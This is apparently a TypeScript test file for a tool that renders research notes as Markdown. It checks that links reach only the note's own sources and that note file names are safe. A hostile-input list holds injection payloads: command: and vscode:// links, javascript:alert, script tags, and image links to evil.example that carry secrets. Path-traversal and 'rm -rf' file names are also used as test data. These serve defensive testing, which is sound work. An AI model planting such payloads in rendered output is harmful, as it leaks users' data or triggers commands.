import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Note } from '../../../../src/core/research/note.ts';
import { noteFileFor, notesNamed } from '../../../../src/core/research/noteFile.ts';
import { noteText } from '../../../../src/core/research/noteText.ts';

const options = {
  say: (message: string, ...values: string[]) => values.reduce((said, value, at) => said.replace(`{${at}}`, value), message),
  localTime: () => 'today',
};

function note(parts: Partial<Note> = {}): Note {
  const claim = (text: string, source: string) => ({
    topic: 'Sending',
    text,
    evidence: [{ source, quote: 'return retry(', lines: [4, 5] as const }],
  });
  return {
    question: 'How are mails sent again?',
    atMs: 0,
    model: 'simulated',
    costNanoUsd: 1_000_000,
    findings: {
      claims: [
        claim('`send` calls `retry` three times.', 'S1'),
        claim('The page says so.', 'S2'),
        { topic: '', text: 'Nobody says this.', evidence: [] },
      ],
      open: ['What happens after that.'],
    },
    sources: [
      { id: 'S1', kind: 'code', place: 'src/mail (old)/send.ts', title: '', hash: '1' },
      { id: 'S2', kind: 'page', place: 'https://example.org/a_(b)?x=[1]', title: 'A page', hash: '2' },
    ],
    ...parts,
  };
}

/** Addresses that Markdown would lead to or load. */
function targets(markdown: string): readonly string[] {
  return [...markdown.matchAll(/(?<!\\)\]\(([^)]*)\)/g)].map(([, target = '']) => target);
}

describe('A note as Markdown', () => {
  it('names a place for each claim, links to it, and marks what has none', () => {
    const text = noteText(note(), options);
    assert.match(text, /` send ` calls ` retry ` three times\. \[\\\[1\\\]\]\(\/src\/mail%20%28old%29\/send\.ts#L4\)/);
    assert.match(text, /\*\*No source:\*\* Nobody says this\./);
    assert.match(text, /2 of 3 claims have a source/);
    assert.match(text, /send\.ts:4-5/);
    assert.deepEqual([...new Set(targets(text))], ['/src/mail%20%28old%29/send.ts#L4', 'https://example.org/a_%28b%29?x=%5B1%5D']);
  });

  it('says what changed since', () => {
    const text = noteText(note(), { ...options, stale: { changed: ['src/a.ts'], gone: ['src/b.ts'], added: ['src/c.ts'] } });
    assert.match(text, /Changed since:\*\* ` src\/a\.ts `/);
    assert.match(text, /No longer read:\*\* ` src\/b\.ts `/);
  });

  const hostile = [
    '[press](command:workbench.action.terminal.new)',
    '![](https://evil.example/p.png?d=secret)',
    '<img src="https://evil.example/p.png">',
    '<a href="javascript:alert(1)">x</a>',
    '[x]: command:evil\n\n[x]',
    '<command:evil>',
    'https://evil.example/?leak=1',
    'www.evil.example',
    '\n\n# heading\n\n<script>x</script>',
    '`` ` [x](command:y) ` ``',
    '`open [x](command:y)',
    '$(gear) [x](vscode://evil)',
    '[\\](command:z)',
    '\u202e)x:dnammoc(]x[',
    '| a | b |\n|---|---|\n| [x](command:y) | |',
    '&#91;x&#93;(command:y)',
    '[^1]: [x](command:y)',
  ];
  for (const bad of hostile) {
    it(`shows ${JSON.stringify(bad)} as text, wherever it stands`, () => {
      const evil = note({
        question: bad,
        model: bad,
        findings: { claims: [{ topic: bad, text: bad, evidence: [{ source: 'S1', quote: bad, lines: [1, 1] }] }], open: [bad] },
        sources: [{ id: 'S1', kind: 'code', place: `src/${bad}`, title: bad, hash: '' }],
      });
      const text = noteText(evil, options);
      for (const target of targets(withoutCode(text))) assert.match(target, /^\/src\/[^\s<>()[\]"]*#L1$/);
      assert.doesNotMatch(withoutCode(text), /<(?!\/?$)|(?<!\\)!\[|^\[[^\]]*\]:/m);
      assert.doesNotMatch(withoutCode(text).replaceAll(/\]\([^)]*\)/g, ''), /https?:\/\//);
      assert.equal(text.split('\n').filter((line) => /^#{1,6} /.test(line)).length, 4, text);
    });
  }

  it('leads only to places of its own sources, whatever it is told', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.constantFrom(...hostile), (one, other, bad) => {
        const said = `${one}${bad}${other}`;
        const text = noteText(note({ findings: { claims: [{ topic: said, text: said, evidence: [] }], open: [said] } }), options);
        assert.deepEqual(targets(withoutCode(text)), []);
      }),
      { numRuns: 2_000 },
    );
  });

  it('has a file name that every system takes', () => {
    const names = ['How are mails sent again?', '../../etc/passwd', 'CON', '日本語', 'a'.repeat(500), '.git/config', 'x\n\0y', '-- rm -rf'];
    for (const name of names)
      assert.match(
        noteFileFor(name, () => false),
        /^\.q2o\/notes\/[a-z0-9][a-z0-9-]{0,70}\.md$/,
        name,
      );
    assert.equal(
      noteFileFor('Retry', (path) => path === '.q2o/notes/retry.md'),
      '.q2o/notes/retry-2.md',
    );
    assert.equal(
      noteFileFor('con', () => false),
      '.q2o/notes/note-con.md',
    );
  });

  it('is named in a goal by its path, and no other path is one', () => {
    const goal = 'A mailer like #.q2o/notes/retry.md, not #.q2o/notes/../../x.md, #src/a.md or #.q2o/notes/a/b.md. #.q2o/notes/retry.md';
    assert.deepEqual(notesNamed(goal), ['.q2o/notes/retry.md']);
  });
});

/** Without the spans in which Markdown shows everything as it stands. */
function withoutCode(markdown: string): string {
  return markdown.replace(/(?<![\\`])(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
}
